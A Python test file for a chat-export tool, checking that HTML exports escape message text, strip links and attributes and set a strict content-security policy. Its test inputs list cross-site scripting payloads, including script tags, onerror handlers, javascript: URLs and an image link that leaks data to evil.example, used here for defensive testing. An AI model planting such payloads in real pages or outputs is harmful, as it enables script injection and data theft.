"""Exports as HTML: the text of every message is there, and none of it is markup, a script or a request."""

import subprocess
import sys
from html.parser import HTMLParser

import pytest
from support.stores.records import record_of, says, written


class Page(HTMLParser):
    """The elements and the text of a page, as a browser parses it."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags, self.ends, self.attributes, self.text = [], [], [], ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_endtag(self, tag):
        self.ends.append(tag)

    def handle_data(self, data):
        self.text += data

    def values(self, tag: str, name: str) -> list[str]:
        return [value for t, n, value in self.attributes if (t, n) == (tag, name)]


def page_of(*records) -> Page:
    return Page(written("html", *records))


NASTY = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</div></section></main><iframe src=//evil></iframe>",
    "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](java&#115;cript:alert(1)) <javascript:alert(1)>",
    "[d](data:text/html;base64,PHNjcmlwdD4=) [f](file:///etc/passwd) [v](vbscript:x)",
    '[q](https://a.example/"onmouseover="alert(1)) ![i](https://a.example/p.png "t" onload=x)',
    "![a](https://evil.example/leak?q=secret) ![b](data:image/svg+xml,<svg onload=alert(1)>)",
    "[relative](../../secret) [same](//evil.example/x) ![c](data:image/png;base64,AAAA)",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "```html\n<script>half a fence",
    '```"><script>\nx\n```',
    "| <b onclick=x> |\n|---|\n| <style>*{}</style> |",
    "\x1b[31m\x00 \u202e",
    "&lt;script&gt; &#60;script&#62;",
]


@pytest.mark.parametrize("words", NASTY)
@pytest.mark.parametrize("role", ["user", "assistant", "system", "tool"])
def test_no_ones_words_are_a_pages_markup(words, role):
    message = says(role, words, reasoning_content=words, error=words, id=f'{words}">'.replace("\0", ""))
    page = page_of(record_of(message, name=words, bot_id=words.replace("\0", ""), id=words.replace("\0", "")))
    assert not {"script", "img", "iframe", "svg", "b onclick", "object", "base", "form"} & set(page.tags)
    assert page.tags.count("style") == page.tags.count("main") == page.tags.count("section") == 1
    assert not [name for _, name, _ in page.attributes if name.startswith("on") or name in {"src", "srcset", "action"}]
    links = [url for url in page.values("a", "href") if not url.startswith("#")]
    assert all(url.startswith("https://") for url in links)
    assert page.values("a", "rel") == ["noopener noreferrer nofollow"] * len(links)
    assert "\x1b" not in page.text
    assert "\x00" not in page.text


def test_a_page_loads_nothing_and_says_so():
    text = written("html", record_of(says("user", "x")))
    policy = "default-src 'none'; style-src 'unsafe-inline'; img-src data:"
    assert f'<meta http-equiv="Content-Security-Policy" content="{policy}">' in text
    assert '<meta charset="utf-8">' in text
    assert "url(" not in text
    assert "@import" not in text
    assert not {"link", "script"} & set(Page(text).tags)


def test_a_bots_words_are_markdown_and_a_users_are_as_they_were_typed():
    words = "# Head\n\n**bold** `code`\n\n|a|\n|-|\n|1|\n\n![a heron](https://a.example/h.png)"
    page = page_of(record_of(says("assistant", words)))
    assert {"h3", "strong", "code", "table"} <= set(page.tags) & set(page.ends)
    assert [url for url in page.values("a", "href") if not url.startswith("#")] == ["https://a.example/h.png"]
    assert "a heron" in page.text
    page = page_of(record_of(says("user", words)))
    assert not {"h3", "strong", "code", "table"} & set(page.tags)
    assert words in page.text


def test_a_message_can_be_pointed_at_and_tells_its_time():
    first, second = says("user", "x"), says("assistant", "y", id="odd id/é", reasoning_content="because")
    page = page_of(record_of(first, second))
    anchors = page.values("section", "id")
    assert len(set(anchors)) == 2
    assert [f"#{anchor}" for anchor in anchors] == page.values("a", "href")
    assert page.values("time", "datetime") == ["2026-11-21T12:30:00.000Z"] * 3
    assert page.tags.count("details") == 1
    assert "because" in page.text


def test_several_sessions_are_an_article_each_under_one_heading_each():
    records = [record_of(says("assistant", "# mine"), name=name) for name in ("A", "B", "C")]
    page = page_of(*records)
    assert page.tags.count("article") == page.tags.count("h2") == 3
    assert page.tags.count("h1") == 1
    alone = page_of(records[0])
    assert (alone.tags.count("article"), alone.tags.count("h1"), alone.tags.count("h2")) == (1, 1, 0)


@pytest.mark.parametrize("deep", [10, 47, 48, 49, 100, 3000])
def test_what_is_nested_too_deeply_for_markdown_is_shown_as_it_is(deep):
    page = page_of(record_of(says("assistant", "> " * deep + "word")))
    assert "word" in page.text
    lists = "\n".join(f"{'  ' * i}- item{i}" for i in range(deep))
    page = page_of(record_of(says("assistant", lists)))
    assert all(f"item{i}" in page.text for i in range(deep))


def test_a_message_of_a_megabyte_is_shown_as_it_is():
    words = "<script> *é* " * 80_000
    page = page_of(record_of(says("assistant", words)))
    assert words in page.text
    assert not {"script", "em"} & set(page.tags)


def test_markdown_is_loaded_only_for_a_page():
    code = "import sys, botchat.core.exporting.formats; sys.exit('markdown_it' in sys.modules or 'bson' in sys.modules)"
    assert subprocess.run([sys.executable, "-c", code], check=False).returncode == 0


def test_a_table_that_grows_when_it_is_drawn_is_shown_as_it_is():
    table = "|a" * 2000 + "\n" + "|-" * 2000 + "\n" + "b\n" * 2000
    text = written("html", record_of(says("assistant", table)))
    assert len(text) < 2 * len(table)
    assert table.strip() in Page(text).text
